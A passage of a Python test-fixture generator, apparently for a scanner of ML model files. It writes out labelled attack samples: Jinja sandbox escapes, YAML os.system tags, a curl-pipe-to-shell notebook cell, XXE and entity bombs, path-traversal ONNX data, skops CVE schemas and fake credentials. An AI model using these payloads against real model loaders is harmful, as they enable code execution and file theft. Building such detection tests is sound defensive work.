    node = field(1, "x") + field(2, "y") + field(4, op) + (field(7, domain) if domain else b"")
    graph = field(1, node) + field(2, "g") + field(5, tensor) + field(11, value) + field(12, out)
    sets = field(8, field(1, "") + field(2, 17)) + (field(8, field(1, domain) + field(2, 1)) if domain else b"")
    extra = field(14, field(1, "note") + field(2, note)) if note else b""
    return field(1, 8) + field(2, "ours") + field(7, graph) + sets + extra


def tensors(header: dict[str, Any] | bytes, data: bytes, length: int | None = None) -> bytes:
    """A safetensors file."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def gguf(pairs: dict[str, str], *, count: int = 0, claimed: int | None = None) -> bytes:
    """A GGUF file of texts by key, with no tensor."""

    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in pairs.items())
    many = len(pairs) if claimed is None else claimed
    return (b"GGUF" + struct.pack("<IQQ", 3, count, many) + body).ljust(64, b"\0") if not pairs else (
        b"GGUF" + struct.pack("<IQQ", 3, count, many) + body)  # fmt: skip


_ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
_CHAT = (
    "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
    "{% if add_generation_prompt %}<|a|>{% endif %}"
)
_TEMPLATES = {
    "subclasses": (_ESCAPE, "malicious"),
    "a name put together": ("{{ cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__') }}", "malicious"),
    "globals of a helper": ("{{ lipsum.__globals__['os'].popen('true').read() }}", "malicious"),
    "an import": ("{{ self.__init__.__globals__.__builtins__.__import__('os').system('true') }}", "malicious"),
    "hexadecimal": ("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}", "malicious"),
    "a loop without end": (
        "{% for i in range(1000000000) %}{% for j in range(1000000000) %}x{% endfor %}{% endfor %}",
        "malicious",
    ),
    "benign": (_CHAT, "clean"),
}


def graphs() -> Iterator[Made]:
    """TensorFlow, ONNX, safetensors, GGUF and templates."""
    for op, expected in {
        "ReadFile": "malicious", "WriteFile": "malicious", "PyFunc": "malicious", "EagerPyFunc": "malicious",
        "MatchingFiles": "malicious", "SaveV2": "suspicious", "OwnCompanyOp": "suspicious", "Relu": "clean",
    }.items():  # fmt: skip
        yield Made(f"SavedModel, {op}", expected, f"{op}/saved_model.pb", saved_model(op))
        if expected == "malicious":
            yield Made(
                f"SavedModel, {op} in a function", expected, f"{op}-f/saved_model.pb", saved_model(op, inside=True)
            )
    yield Made("ONNX, benign", "clean", "good.onnx", onnx())
    yield Made("ONNX, data beside it, benign", "clean", "beside.onnx", onnx(where="model.data"))
    for index, where in enumerate(("../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "a/../../b", "C:\\x")):
        yield Made(f"ONNX: data in {where}", "malicious", f"out{index}.onnx", onnx(where=where))
    yield Made("ONNX: a custom domain", "suspicious", "domain.onnx", onnx(op="Gate", domain="com.my_company"))
    yield Made("ONNX: PythonOp", "malicious", "python.onnx", onnx(op="PythonOp", domain="com.microsoft"))
    yield Made("ONNX: a size that nothing has", "suspicious", "size.onnx", onnx(dims=(1 << 40, 1 << 20)))
    yield Made("ONNX: a script in its notes", "suspicious", "note.onnx", onnx(note="<script>alert(1)</script>"))
    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    yield Made("safetensors, benign", "clean", "good.safetensors", tensors({"a": one}, bytes(8)))
    yield Made("safetensors: overlap", "suspicious", "overlap.safetensors", tensors({"a": one, "b": one}, bytes(8)))
    yield Made(
        "safetensors: trailing bytes", "suspicious", "trail.safetensors", tensors({"a": one}, bytes(8) + b"more")
    )
    yield Made(
        "safetensors: a pickle behind it", "malicious", "behind.safetensors", tensors({"a": one}, bytes(8) + EVIL)
    )
    late = {**one, "data_offsets": [8, 16]}
    yield Made("safetensors: a gap", "suspicious", "gap.safetensors", tensors({"a": late}, bytes(16)))
    far = {**one, "data_offsets": [0, 800]}
    yield Made("safetensors: an offset beyond it", "suspicious", "far.safetensors", tensors({"a": far}, bytes(8)))
    yield Made(
        "safetensors: a header of 2^62 bytes", "malicious", "head.safetensors", tensors({"a": one}, bytes(8), 1 << 62)
    )
    twice = b'{"a":' + json.dumps(one).encode() + b',"a":' + json.dumps(one).encode() + b"}"
    yield Made("safetensors: one name twice", "suspicious", "twice.safetensors", tensors(twice, bytes(8)))
    for index, (name, (template, expected)) in enumerate(_TEMPLATES.items()):
        said = {"general.architecture": "llama", "tokenizer.chat_template": template}
        yield Made(f"GGUF template: {name}", expected, f"t{index}.gguf", gguf(said))
        config = json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()
        yield Made(f"tokenizer_config.json template: {name}", expected, f"t{index}/tokenizer_config.json", config)
        yield Made(f"chat_template.jinja: {name}", expected, f"t{index}/chat_template.jinja", template.encode())
    yield Made("GGUF: a count that lies", "malicious", "count.gguf", gguf({"a": "b"}, claimed=1 << 60))
    yield Made("GGUF: cut off", "reported", "cut.gguf", gguf({"general.architecture": "llama"})[:-3])


# ----------------------------------------------------------------------------------------------- boosters, skops, texts


def boosters() -> Iterator[Made]:
    """XGBoost, LightGBM, skops."""
    x = np.random.default_rng(0).normal(size=(60, 3))
    y = (x[:, 0] > 0).astype(int)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield from _boosted(x, y)
        yield from _skops(x, y)


def _boosted(x: np.ndarray, y: np.ndarray) -> Iterator[Made]:
    import lightgbm
    import xgboost

    boosted = xgboost.XGBClassifier(n_estimators=2, max_depth=2).fit(x, y)
    for form in ("json", "ubj"):
        raw = bytes(boosted.get_booster().save_raw(form))
        yield Made(f"XGBoost, {form}, benign", "clean", f"good-xgb.{form}", raw)
        yield Made(f"XGBoost, {form}: a pickle behind it", "reported", f"xgb-evil.{form}", raw + EVIL)
    light = lightgbm.LGBMClassifier(n_estimators=2, num_leaves=4, verbose=-1).fit(x, y).booster_.model_to_string()
    yield Made("LightGBM text, benign", "clean", "good-lgb.txt", light.encode())
    yield Made("LightGBM text: a pickle behind it", "reported", "lgb-evil.txt", light.encode() + EVIL)
    yield Made(
        "LightGBM pickle, benign",
        "clean",
        "lgb.pkl",
        pickle.dumps(lightgbm.LGBMClassifier(n_estimators=2, verbose=-1).fit(x, y)),
    )
    yield Made("XGBoost pickle, benign", "clean", "xgb.pkl", pickle.dumps(boosted))


def _skops(x: np.ndarray, y: np.ndarray) -> Iterator[Made]:
    import skops.io
    from sklearn.linear_model import LogisticRegression

    good = skops.io.dumps(LogisticRegression().fit(x, y))
    yield Made("skops, benign", "clean", "good.skops", good)
    names = {
        "a type of nobody's": {"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "__id__": 1},
        "OperatorFuncNode (CVE-2025-54412)": {"__class__": "call", "__module__": "operator", "__loader__":
            "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": [], "__id__": 2}, "__id__": 1},
        "MethodNode (CVE-2025-54413)": {"__class__": "ndarray", "__module__": "builtins", "__loader__": "MethodNode",
            "content": {"func": "tofile", "obj": {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode",
            "content": {}, "__id__": 3}}, "__id__": 1},
    }  # fmt: skip
    for index, (name, node) in enumerate(names.items()):
        schema = json.dumps({**node, "protocol": 2, "_skops_version": "0.11.0"}).encode()
        yield Made(f"skops: {name}", "suspicious", f"{index}.skops", _added(good, {"schema.json": schema}))
    yield Made("skops: a pickle (CVE-2025-54886)", "malicious", "card.skops", EVIL)


def texts() -> Iterator[Made]:
    """Configurations, code and other files beside a model."""
    dtd = '<?xml version="1.0"?><!DOCTYPE a [{}]><PMML version="4.4"><Header>{}</Header></PMML>'
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    pmml = (
        '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary/></PMML>'
    )
    xml = {
        "PMML, benign": ("clean", "good.pmml", pmml),
        "XML: an external entity": ("malicious", "xxe.pmml", dtd.format('<!ENTITY x SYSTEM "file:///etc/x">', "&x;")),
        "XML: a bomb of entities": ("malicious", "bomb.pmml", dtd.format('<!ENTITY l0 "lol">' + laughs, "&l11;")),
        "XML: a parameter entity": (
            "malicious", "param.pmml", dtd.format('<!ENTITY % x SYSTEM "http://127.0.0.1/x"> %x;', ""),
        ),
    }  # fmt: skip
    for technique, (expected, name, text) in {**xml, **_configs(), **_yaml(), **_programs(), **_secrets()}.items():
        yield Made(technique, expected, name, text.encode())
    elf = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(64)
    yield Made("a native library beside the model", "suspicious", "ops.so", elf)
    pe = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(128)
    yield Made("a native library for Windows", "suspicious", "ops.dll", pe)


Texts = dict[str, tuple[str, str, str]]


def _configs() -> Texts:
    plain = {"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8}
    own = {"model_type": "own", "auto_map": {"AutoModel": "modeling_own.OwnModel"}}
    peft = {"peft_type": "LORA", "auto_mapping": {"base_model_class": "x", "parent_library": "os"}}
    return {
        "config.json, benign": ("clean", "config.json", json.dumps(plain)),
        "config.json: auto_map": ("suspicious", "auto/config.json", json.dumps(own)),
        "config.json: auto_map of another repository": (
            "suspicious", "auto2/config.json", json.dumps({"auto_map": {"AutoModel": "somebody/else--m.Own"}}),
        ),
        "PEFT: parent_library": ("suspicious", "adapter_config.json", json.dumps(peft)),
    }  # fmt: skip


def _yaml() -> Texts:
    flavor = "flavors:\n  python_function:\n    loader_module: {}\n    {}\n"
    aliases = "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 12))
    return {
        "MLmodel, benign": ("clean", "good/MLmodel", flavor.format("mlflow.sklearn", "model_path: model.pkl")),
        "MLmodel: loader_module": ("suspicious", "MLmodel", flavor.format("my_loader", "code: code")),
        "MLmodel: loader_module os": ("suspicious", "os/MLmodel", flavor.format("os", "code: code")),
        "YAML, benign": ("clean", "good.yaml", "model:\n  name: a\n  layers: [1, 2]\n"),
        "YAML: python/object/apply": ("malicious", "evil.yaml", "a: !!python/object/apply:os.system ['true']\n"),
        "YAML: python/object/new": ("malicious", "new.yaml", "!!python/object/new:subprocess.Popen [['true']]\n"),
        "YAML: a bomb of aliases": ("reported", "bomb.yaml", f"a0: &a0 [{','.join('x' * 10)}]\n{aliases}"),
    }


def _programs() -> Texts:
    index = "--extra-index-url http://127.0.0.1/simple\nnumpy\n"
    decoded = "import base64\nexec(base64.b64decode('cGFzcw=='))\n"
    double = "import math\n\n\ndef double(x):\n    return 2 * math.sqrt(x)\n"
    return {
        "requirements, benign": ("clean", "requirements.txt", "numpy==2.1.0\nscikit-learn>=1.5\n"),
        "requirements: another index": ("suspicious", "index/requirements.txt", index),
        "requirements: from elsewhere": ("suspicious", "git/requirements.txt", "x @ git+https://127.0.0.1/x.git\n"),
        "notebook, benign": ("clean", "good.ipynb", _notebook("import numpy as np\nprint(np.zeros(3))")),
        "notebook: a shell command": ("malicious", "shell.ipynb", _notebook("!curl http://127.0.0.1/x | sh")),
        "notebook: os.system": ("suspicious", "os.ipynb", _notebook("import os\nos.system('true')")),
        "Python, benign": ("clean", "good.py", double),
        "Python: os.system": ("suspicious", "evil.py", "import os\nos.system('true')\n"),
        "Python: exec of base 64": ("malicious", "b64.py", decoded),
        "text, benign": ("clean", "README.md", "# A model\n\nIt classifies digits.\n"),
    }


def _secrets() -> Texts:
    """Secrets that were never anyone's, put together so that no tool takes this file for a leak."""
    amazon = {
        "key": "AKIA" + "Z7Q4TPLMX3WKVB2N",
        "aws_secret_access_key": "kq8Rz1Lw0vYx7PdTn3Ue" + "6HbSj2Mf9GcAo4Ki5XyQ",
    }
    line = "-----{} RSA PRIVATE" + " KEY-----\n"
    private = line.format("BEGIN") + "MIIEowIBAAKCAQEA7bq9" * 20 + "\n" + line.format("END")
    return {
        "a secret in JSON": ("suspicious", "secret.json", json.dumps(amazon)),
        "a secret in YAML": ("suspicious", "secret.yaml", "token: ghp_" + "a8Kd02LmXq71ZrTbV5yNwP3sE6uHjC4oIf9G\n"),
        "a private key": ("suspicious", "id_rsa", private),
    }


def _notebook(code: str) -> str:
    cell = {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": code.splitlines(True),
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
